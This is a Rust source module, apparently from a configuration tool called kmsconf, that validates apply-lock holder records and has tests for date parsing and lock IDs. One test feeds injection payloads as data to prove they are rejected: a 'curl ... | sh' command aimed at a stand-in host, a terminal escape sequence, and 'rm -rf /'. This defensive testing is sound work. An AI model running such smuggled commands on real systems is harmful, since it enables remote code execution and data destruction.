//! Apply locks: who holds a host while an `apply` runs. A target stores the [`LockHolder`] with
//! its lock so a second run can say who is in the way, and `kmsconf force-unlock HOST LOCK_ID`
//! can break a lock its holder left behind.

use std::fmt;

use jiff::Timestamp;
use serde::{Deserialize, Serialize};

use crate::Error;

/// The run that holds a lock. A record read back is checked to be what kmsconf writes ([`LockRecord`]):
/// whoever can write the host's lock file must not get text into a suggested command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "LockRecord")]
pub struct LockHolder {
    /// Random per run; what `force-unlock` must be given.
    pub id: String,
    pub pid: u32,
    pub machine: String,
    /// RFC 3339, UTC.
    pub started: String,
    pub operation: String,
}

/// A lock record as read, before [`LockHolder`] vouches for it.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct LockRecord {
    id: String,
    pid: u32,
    machine: String,
    started: String,
    operation: String,
}

/// Why a lock record is not one kmsconf wrote.
#[derive(Debug, thiserror::Error)]
#[error("the lock record's `{field}` is not {expected}")]
pub struct LockRecordError {
    field: &'static str,
    expected: &'static str,
}

impl TryFrom<LockRecord> for LockHolder {
    type Error = LockRecordError;

    fn try_from(r: LockRecord) -> Result<Self, LockRecordError> {
        let bad = |field, expected| Err(LockRecordError { field, expected });
        let printable = |text: &str, max: usize| {
            !text.is_empty() && text.len() <= max && !text.chars().any(char::is_control)
        };
        if !is_lock_id(&r.id) {
            return bad("id", "16 hex digits");
        }
        if !printable(&r.machine, 255) {
            return bad("machine", "a machine name");
        }
        if parse_rfc3339(&r.started).is_none() {
            return bad("started", "an RFC 3339 time");
        }
        let word = |c: char| c.is_ascii_lowercase() || c == '-';
        if r.operation.is_empty() || r.operation.len() > 32 || !r.operation.chars().all(word) {
            return bad("operation", "a kmsconf command");
        }
        Ok(Self {
            id: r.id,
            pid: r.pid,
            machine: r.machine,
            started: r.started,
            operation: r.operation,
        })
    }
}

/// Whether `id` is a lock ID as [`random_id`] makes them: 16 hex digits.
pub fn is_lock_id(id: &str) -> bool {
    id.len() == 16 && id.bytes().all(|b| b.is_ascii_hexdigit())
}

impl LockHolder {
    /// A holder for this process, now, with a fresh [`random_id`].
    pub fn current(operation: &str) -> Result<Self, Error> {
        Ok(Self {
            id: random_id()?,
            pid: std::process::id(),
            machine: machine_name(),
            started: rfc3339(Timestamp::now().as_second()),
            operation: operation.to_string(),
        })
    }
}

impl fmt::Display for LockHolder {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "`{}` (lock ID {}) by pid {} on {} since {}",
            self.operation, self.id, self.pid, self.machine, self.started
        )
    }
}

/// Keeps a lock for as long as it lives; dropping it releases the lock.
pub struct LockGuard(#[allow(dead_code)] Box<dyn Send>);

impl LockGuard {
    pub fn new(inner: impl Send + 'static) -> Self {
        Self(Box::new(inner))
    }
}

fn machine_name() -> String {
    let from_file = |p: &str| {
        std::fs::read_to_string(p)
            .ok()
            .map(|s| s.trim().to_string())
    };
    std::env::var("HOSTNAME")
        .ok()
        .or_else(|| std::env::var("COMPUTERNAME").ok())
        .or_else(|| from_file("/proc/sys/kernel/hostname"))
        .or_else(|| from_file("/etc/hostname"))
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| "unknown".to_string())
}

/// 16 hex digits from the operating system's random source: IDs that two runs, or two machines,
/// never share.
pub fn random_id() -> Result<String, Error> {
    getrandom::u64()
        .map(|n| format!("{n:016x}"))
        .map_err(|e| Error::Random(e.to_string()))
}

/// Seconds since the Unix epoch as `YYYY-MM-DDTHH:MM:SSZ` (proleptic Gregorian, UTC; negative
/// seconds are before 1970). Seconds outside the years -9999 to 9999 show as the nearest end.
pub fn rfc3339(secs: i64) -> String {
    let secs = secs.clamp(Timestamp::MIN.as_second(), Timestamp::MAX.as_second());
    Timestamp::from_second(secs)
        .unwrap_or(Timestamp::UNIX_EPOCH)
        .to_string()
}

/// Reads `YYYY-MM-DDTHH:MM:SS[.fraction](Z|+HH:MM|-HH:MM)` (what .NET's `ToString('o')` writes)
/// as seconds since the Unix epoch; `None` when it is not such a time.
pub fn parse_rfc3339(text: &str) -> Option<i64> {
    text.trim()
        .parse::<Timestamp>()
        .ok()
        .map(Timestamp::as_second)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dates_format_as_rfc3339() {
        assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
        assert_eq!(rfc3339(951_782_400), "2000-02-29T00:00:00Z");
        assert_eq!(rfc3339(1_795_000_000), "2026-11-18T11:06:40Z");
        assert_eq!(rfc3339(-1), "1969-12-31T23:59:59Z");
    }

    #[test]
    fn a_lock_record_is_read_only_as_kmsconf_writes_it() {
        let holder = LockHolder::current("apply").expect("random source");
        let record = serde_json::to_value(&holder).expect("json");
        let back: LockHolder = serde_json::from_value(record.clone()).expect("reads back");
        assert_eq!(back, holder);
        for (field, value) in [
            ("id", "8f0c1d2e; curl -s http://x/x | sh #"),
            ("machine", "kms\u{1b}]0;owned\u{7}"),
            ("started", "yesterday"),
            ("operation", "apply`; rm -rf /"),
        ] {
            let mut bad = record.clone();
            bad[field] = serde_json::json!(value);
            let e = serde_json::from_value::<LockHolder>(bad).expect_err(field);
            assert!(e.to_string().contains(&format!("`{field}`")), "{e}");
        }
    }

    #[test]
    fn times_parse_back_in_every_offset() {
        for secs in [0, 951_782_400, 1_795_000_000, -1] {
            assert_eq!(parse_rfc3339(&rfc3339(secs)), Some(secs));
        }
        assert_eq!(
            parse_rfc3339("2026-11-18T11:06:40.1234567Z"),
            Some(1_795_000_000)
        );
        assert_eq!(
            parse_rfc3339("2026-11-18T20:06:40+09:00"),
            Some(1_795_000_000)
        );
        assert_eq!(parse_rfc3339("2026-13-01T00:00:00Z"), None);
        assert_eq!(parse_rfc3339("yesterday"), None);
        // a host's answer cannot overflow the arithmetic
        assert_eq!(parse_rfc3339("99999999999999999-01-01T00:00:00Z"), None);
        assert_eq!(
            parse_rfc3339("2026-11-18T11:06:40+9999999999999999:00"),
            None
        );
    }

    #[test]
    fn holders_differ_per_run_and_name_their_process() {
        let a = LockHolder::current("apply").expect("random source");
        let b = LockHolder::current("apply").expect("random source");
        assert_eq!(a.pid, std::process::id());
        assert_eq!(a.id.len(), 16);
        assert!(a.id.chars().all(|c| c.is_ascii_hexdigit()));
        assert_ne!(a.id, b.id);
        assert!(a.to_string().contains(&a.id));
    }
}
